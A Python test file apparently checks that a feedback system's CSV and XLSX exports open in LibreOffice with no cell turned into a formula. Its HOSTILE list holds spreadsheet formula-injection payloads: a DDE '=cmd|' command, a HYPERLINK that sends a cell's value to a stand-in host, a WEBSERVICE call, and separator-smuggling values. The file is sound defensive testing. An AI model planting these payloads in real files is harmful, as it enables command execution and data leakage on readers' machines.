"""Tables as a real spreadsheet opens them: whatever a citizen wrote, no cell of it is a formula.

LibreOffice opens every file, with all formulas allowed, and writes it as flat OpenDocument XML, in which a
formula is an attribute of its cell. The control is the same text in a CSV without a guard: there it has to
find formulas.
"""

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as Xml

import pytest
from litestar.testing import TestClient
from msgspec.structs import replace

from sync.contract.canonical import canonical_bytes
from sync.contract.sealing import seal_words
from sync.pull.settings import Job
from sync.pull.state import Spool
from sync.pull.writing import publish
from sync.tables.formulas import SEPARATORS, guard
from tests.support.wire import CentreUnderTest, numbered
from tests.support.workbook import WORKBOOK

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1;"Bấm vào đây")',
    '=WEBSERVICE("http://example.invalid/")',
    '",=1+1,"',
    'x"\r\n=1+1',
    "'=1+1",
    "{=1+1}",
    "Tốt;=1+1;x",
    'Tốt; "=1+1;x',
    "Tốt,=1+1,x",
    "Tốt\t=1+1\tx",
    "Tốt\n=1+1",
    "Chờ lâu; cán bộ “nhiệt tình”",
)
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def soffice() -> str | None:
    return shutil.which("soffice")


def store(central: CentreUnderTest, client: Any) -> None:
    """One visit a hostile text, in the citizen's words and on the counter's sign."""
    key = central.keys.public().sealing[-1]
    bodies = []
    for one, text in zip(numbered(len(HOSTILE)), HOSTILE, strict=True):
        assert one.tag
        sealed = seal_words({"unsatisfied": text}, key.id, key.public)
        counter = text.translate(dict.fromkeys(range(32)))  # the wire takes no control signs there
        bodies.append(canonical_bytes(replace(one, sealed=sealed, tag=replace(one.tag, counter=counter))))
    content = b'{"device":"kiosk-1","responses":[%b]}' % b",".join(bodies)
    headers = {"Authorization": f"Bearer {central.token(device='kiosk-1')}"}
    receipts = client.post("/v1/batches", content=content, headers=headers).json()["receipts"]
    assert {receipt["status"] for receipt in receipts} == {"stored"}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every file that is to be opened, and beside it what LibreOffice made of it."""
    if soffice() is None:
        pytest.skip("LibreOffice is not installed")
    folder = tmp_path_factory.mktemp("sheets")
    central = CentreUnderTest(folder / "centre")
    with TestClient(central.app) as client:
        store(central, client)
        headers = {"Authorization": f"Bearer {central.token(role='admin')}"}

        def pulled(form: str) -> bytes:
            parameters = {"format": form, "bom": "1"}
            content: bytes = client.get("/v1/responses", params=parameters, headers=headers).content
            return content

        (folder / "centre.csv").write_bytes(pulled("csv"))
        (folder / "centre.xlsx").write_bytes(pulled("xlsx"))
        plain = client.get("/v1/responses", params={"format": "arrays"}, headers=headers).content
    central.close()
    for name in ("pulled.csv", "pulled.xlsx"):
        pull(folder / name, plain)
    out = io.StringIO()
    csv.writer(out).writerows([["words"], *([text] for text in HOSTILE)])
    (folder / "unguarded.csv").write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode())
    shutil.copy(WORKBOOK, folder)
    # Comma, quote, UTF-8; text as it stands, formulas evaluated: what a hasty person would click.
    files = ["centre.csv", "pulled.csv", "unguarded.csv"]
    for separator in SEPARATORS:
        into = f"opened-csv-{ord(separator)}"
        opened_by(folder, files, into, f"--infilter=CSV:{ord(separator)},34,76,1{CSV_REST}")
    opened_by(folder, ["centre.xlsx", "pulled.xlsx", WORKBOOK.name], "opened-xlsx")
    return folder


CSV_REST = ",,0,false,true,false,false,false,0,true"


def opened_by(folder: Path, names: list[str], into: str, *options: str) -> None:
    """Let LibreOffice open these, and write what it sees."""
    program = [str(soffice()), f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore"]
    output = folder / into
    done = subprocess.run(
        [*program, *options, "--convert-to", "fods", "--outdir", str(output)]
        + [str(folder / name) for name in names],
        env={**os.environ, "HOME": str(folder)},
        capture_output=True,
        text=True,
        timeout=150,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def pull(output: Path, content: bytes) -> None:
    """The same as `hailong-pull` writes it."""
    form: Any = output.suffix.removeprefix(".")
    job = Job(centre="http://centre", output=output, format=form, filters={})
    header, _, lines = content.partition(b"\n")
    spool = Spool(output, job.name)
    spool.add(lines, len(HOSTILE), header.decode(), "1-1")
    publish(job, spool)
    spool.close()


def cells(folder: Path, name: str, separator: str = ",") -> list[tuple[str, str | None]]:
    """The text and the formula of every cell that has either, as LibreOffice saw them."""
    path = Path(name)
    into = f"opened-csv-{ord(separator)}" if path.suffix == ".csv" else "opened-xlsx"
    document = Xml.parse(folder / into / f"{path.stem}.fods")
    found = []
    for cell in document.iter(f"{TABLE}table-cell"):
        text = "\n".join(map(shown, cell.findall(f"{TEXT}p")))
        formula = cell.get(f"{TABLE}formula")
        if text or formula:
            found.append((text, formula))
    return found


def shown(element: Xml.Element) -> str:
    """The text of a paragraph, with its spaces and tabs."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == f"{TEXT}s":
            parts.append(" " * int(child.get(f"{TEXT}c", "1")))
        elif child.tag == f"{TEXT}tab":
            parts.append("\t")
        else:
            parts.append(shown(child))
        parts.append(child.tail or "")
    return "".join(parts)


def plain(text: str) -> str:
    """Without what a cell cannot show: the kind of a line's end, and what marks XML escapes."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n").strip("\n")


@pytest.mark.parametrize("name", ["centre.csv", "centre.xlsx", "pulled.csv", "pulled.xlsx"])
def test_no_cell_is_a_formula(folder: Path, name: str) -> None:
    found = cells(folder, name)
    assert len(found) > 10 * len(HOSTILE)
    # LibreOffice writes true and false down as formulas of these names.
    truth = ("of:=TRUE()", "of:=FALSE()")
    assert [formula for _, formula in found if formula and formula not in truth] == []


@pytest.mark.parametrize("name", ["centre.csv", "centre.xlsx", "pulled.csv", "pulled.xlsx"])
def test_a_person_sees_the_text_that_was_written(folder: Path, name: str) -> None:
    seen = {plain(text) for text, _ in cells(folder, name)}
    guarded = {text: guard(text) for text in HOSTILE}
    for text in HOSTILE:
        wanted = text if name.endswith(".xlsx") else guarded[text]
        assert plain(wanted) in seen, (wanted, sorted(one for one in seen if "1" in one)[:60])


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("name", ["centre.csv", "pulled.csv"])
def test_no_cell_is_a_formula_where_the_spreadsheet_splits_at_another_sign(
    folder: Path, name: str, separator: str
) -> None:
    found = cells(folder, name, separator)
    assert len(found) > len(HOSTILE)
    assert [formula for _, formula in found if formula] == []
    split = cells(folder, "unguarded.csv", separator)  # the control
    assert any(formula == "of:=1+1" for _, formula in split)


def test_the_control_without_a_guard_has_formulas(folder: Path) -> None:
    found = [formula for _, formula in cells(folder, "unguarded.csv") if formula]
    assert any("cmd" in formula for formula in found)
    assert any("HYPERLINK" in formula for formula in found)


def test_the_workbook_with_queries_opens_with_its_cells_and_headings(folder: Path) -> None:
    texts = [text for text, _ in cells(folder, WORKBOOK.name)]
    assert {"Địa chỉ trung tâm", "Đã trả", "Đã quét", "Đã trả lời", "Rất hài lòng (5)", "position"} <= set(
        texts
    )
